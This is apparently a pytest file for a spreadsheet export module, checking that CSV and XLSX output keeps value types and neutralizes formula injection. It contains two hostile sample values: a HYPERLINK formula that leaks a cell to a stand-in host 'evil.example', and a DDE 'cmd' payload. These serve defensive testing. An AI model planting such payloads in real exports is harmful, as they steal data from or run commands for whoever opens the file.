"""Tables as CSV and XLSX (apps.core.spreadsheets): values keep their type, formulas never run."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from apps.core import spreadsheets
from apps.core.spreadsheets import Format, neutralized, sheet_title, table_bytes, table_response

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
HEADER = ["Buyer", "Total", "Paid at (Europe/London)", "Day", "Checked in", "Note"]


def _rows():
    london = ZoneInfo("Europe/London")
    return [
        [
            HYPERLINK,
            Decimal("12.50"),
            datetime(2026, 12, 3, 19, 30, tzinfo=london),
            date(2026, 12, 3),
            True,
            None,
        ],
        [
            "Zoë Ørsted",
            Decimal("1500"),
            datetime(2026, 7, 1, 9, 5, tzinfo=london),
            date(2026, 7, 1),
            False,
            "ok",
        ],
    ]


def wall_clock(*parts: int) -> datetime:
    """A naive datetime, as Excel (which has no zones) gives one back."""
    return datetime(*parts, tzinfo=ZoneInfo("UTC")).replace(tzinfo=None)


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(start):
    assert neutralized(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Alice", "", "1+1", "a=b", " =1", "'quoted"])
def test_other_text_is_left_alone(text):
    assert neutralized(text) == text


def test_csv_writes_each_type_plainly_and_neutralizes_formulas():
    rows = _csv(table_bytes(Format.CSV, HEADER, _rows()))

    assert rows[0] == HEADER
    assert rows[1] == [f"'{HYPERLINK}", "12.50", "2026-12-03 19:30:00+00:00", "2026-12-03", "TRUE", ""]
    assert rows[2] == ["Zoë Ørsted", "1500", "2026-07-01 09:05:00+01:00", "2026-07-01", "FALSE", "ok"]


def test_csv_neutralizes_the_header_too_and_ends_lines_with_crlf():
    data = table_bytes("csv", ["=cmd|' /C calc'!A0"], [["-2+3"], [Decimal("-2")]])

    assert data.decode("utf-8-sig").split("\r\n") == ["'=cmd|' /C calc'!A0", "'-2+3", "-2", ""]


def test_xlsx_writes_formula_like_text_as_quoted_text_never_as_a_formula():
    data = table_bytes(Format.XLSX, HEADER, _rows(), title="Orders")
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    cell = _sheet(data)["A2"]

    assert "<f>" not in xml
    assert "HYPERLINK" in xml
    assert cell.value == HYPERLINK
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


def test_xlsx_keeps_numbers_dates_and_bools_typed():
    sheet = _sheet(table_bytes(Format.XLSX, HEADER, _rows(), title="Orders"))

    assert [c.value for c in sheet[1]] == HEADER
    assert sheet[1][0].font.bold
    assert sheet.freeze_panes == "A2"
    total, paid_at, day, checked_in, note = (sheet.cell(row=2, column=n) for n in range(2, 7))
    assert total.value == 12.5
    assert total.data_type == "n"
    assert total.number_format == "#,##0.00"
    assert sheet.cell(row=3, column=2).number_format == "#,##0"  # no decimals: none shown
    assert paid_at.value == wall_clock(2026, 12, 3, 19, 30)  # the wall clock of its own zone
    assert sheet.cell(row=3, column=3).value == wall_clock(2026, 7, 1, 9, 5)
    assert day.value == wall_clock(2026, 12, 3)
    assert day.number_format == "yyyy-mm-dd"
    assert checked_in.value is True
    assert note.value is None
    assert sheet.cell(row=3, column=1).value == "Zoë Ørsted"


def test_xlsx_drops_control_characters_excel_refuses():
    sheet = _sheet(table_bytes(Format.XLSX, ["Name"], [["Bell\x07 and \x00null"]]))

    assert sheet["A2"].value == "Bell and null"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Orders: 2026/12", "Orders 2026 12"),
        ("", "Sheet1"),
        ("x" * 40, "x" * 31),
        ("'quoted'", "quoted"),
    ],
)
def test_sheet_titles_are_ones_excel_accepts(title, expected):
    assert sheet_title(title) == expected


@pytest.mark.parametrize("file_format", list(Format))
def test_progress_is_reported_every_so_many_rows_and_rows_are_counted(file_format, monkeypatch):
    monkeypatch.setattr(spreadsheets, "PROGRESS_EVERY", 2)
    seen: list[int] = []
    stream = io.BytesIO()

    count = spreadsheets.table_write(
        file_format, stream, ["n"], ([n] for n in range(5)), progress=seen.append
    )

    assert count == 5
    assert seen == [2, 4]
    assert not stream.closed  # the caller's stream stays open


def test_a_download_response_names_the_file_and_its_type():
    response = table_response("xlsx", ["a"], [[1]], filename="orders-2026-12", title="Orders")

    assert response["Content-Type"] == Format.XLSX.content_type
    assert response["Content-Disposition"] == 'attachment; filename="orders-2026-12.xlsx"'
    assert _sheet(response.content)["A2"].value == 1


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="pdf"):
        table_bytes("pdf", ["a"], [])
